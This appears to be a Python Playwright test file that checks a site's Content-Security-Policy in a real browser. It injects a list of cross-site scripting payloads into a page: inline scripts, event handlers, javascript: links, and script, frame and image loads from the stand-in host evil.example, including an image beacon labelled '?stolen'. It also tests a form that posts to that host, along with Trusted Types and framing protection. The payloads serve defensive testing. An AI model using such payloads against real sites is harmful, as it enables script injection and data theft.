"""What a page's policy stops in a real browser: whatever somebody got into the page does nothing, and is reported."""

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, Route

from config.models import PolicyViolation
from config.tests.processes import wait_until

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("own_cache")]

# Each would set the window's name, or ask another host for something.
INJECTIONS = {
    "an inline script": "<script>window.name='run'</script>",
    "a script with a guessed nonce": "<script nonce='AAAAAAAAAAAAAAAAAAAAAA=='>window.name='run'</script>",
    "a script of ours without its nonce": "<script src='/static/js/menu.js'></script>",
    "a script from elsewhere": "<script src='https://evil.example/x.js'></script>",
    "a handler": "<img src='/nothing.png' onerror=\"window.name='run'\">",
    "a link that runs": "<a id='bait' href=\"javascript:window.name='run'\">x</a>",
    "a frame": "<iframe src='data:text/html,x'></iframe>",
    "a frame from elsewhere": "<iframe src='https://evil.example/'></iframe>",
    "an object": "<object data='https://evil.example/x.swf'></object>",
    "a picture from elsewhere": "<img src='https://evil.example/?stolen'>",
    "a style": "<style>main { display: none }</style>",
    "a style from elsewhere": "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "a style of one element": "<p id='styled' style='display:none'>x</p>",
}
POLICY = "content-security-policy"
FORM = "<form id='bait' action='https://evil.example/' method='post'></form>"


@pytest.fixture
def elsewhere(context: BrowserContext) -> list[str]:
    """What the browser asked of other hosts."""
    asked: list[str] = []
    context.route(re.compile("evil.example"), lambda route: (asked.append(route.request.url), route.abort()))
    return asked


@pytest.fixture
def tab(context: BrowserContext) -> Iterator[Page]:
    """A tab of a browser that may find its policy broken, as the tabs of other tests may not."""
    tab = context.new_page()
    yield tab
    tab.close()


@pytest.fixture
def open_with(tab: Page, live_server: Any) -> Callable[..., Page]:
    """Open a page of the site with something added to it on its way, under the head that the site gave it."""

    def open_page(markup: str, place: str = "/help/") -> Page:
        def add(route: Route) -> None:
            answer = route.fetch()
            # Without TLS there is no Reporting API; asked for it, Chromium would not fall back to ``report-uri``.
            policy = answer.headers[POLICY].replace("report-to policy", "")
            body = answer.text().replace("</main>", f"{markup}</main>")
            route.fulfill(response=answer, headers=answer.headers | {POLICY: policy}, body=body)

        tab.route(f"{live_server.url}{place}", add)
        tab.goto(f"{live_server.url}{place}")
        return tab

    return open_page


@pytest.mark.parametrize("markup", INJECTIONS.values(), ids=INJECTIONS)
def test_it_runs_and_loads_nothing_that_somebody_got_into_a_page(
    open_with: Callable[..., Page], elsewhere: list[str], markup: str
) -> None:
    tab = open_with(markup)
    if "bait" in markup:
        tab.click("#bait")
    wait_until(lambda: PolicyViolation.objects.exists())
    assert tab.evaluate("window.name") == ""
    assert tab.is_visible("main h1")
    assert "styled" not in markup or tab.is_visible("#styled")
    assert elsewhere == []
    row = PolicyViolation.objects.get()
    assert row.page == "/help/"
    # The host of what was stopped at most, and for a frame of data nothing.
    assert row.blocked in ("inline", "self", "", "https://evil.example")


def test_it_sends_no_form_elsewhere(open_with: Callable[..., Page], elsewhere: list[str]) -> None:
    # A click would wait for the page that never comes.
    open_with(FORM).evaluate("document.querySelector('#bait').requestSubmit()")
    wait_until(lambda: PolicyViolation.objects.filter(directive="form-action").exists())
    assert elsewhere == []


def test_it_turns_no_text_into_html_on_a_page_without_htmx(open_with: Callable[..., Page]) -> None:
    tab = open_with("")
    refused = "() => { try { document.body.innerHTML = '<p>'; return false } catch (error) { return true } }"
    assert tab.evaluate(refused)
    wait_until(lambda: PolicyViolation.objects.filter(directive="require-trusted-types-for").exists())
    assert tab.is_visible("main h1")


def test_it_is_shown_in_no_frame(tab: Page, live_server: Any) -> None:
    tab.route(
        "http://other.localhost/",
        lambda route: route.fulfill(body=f"<iframe src='{live_server.url}/help/'></iframe>", content_type="text/html"),
    )
    tab.goto("http://other.localhost/")
    (frame,) = tab.main_frame.child_frames
    assert frame.url.startswith("chrome-error:")
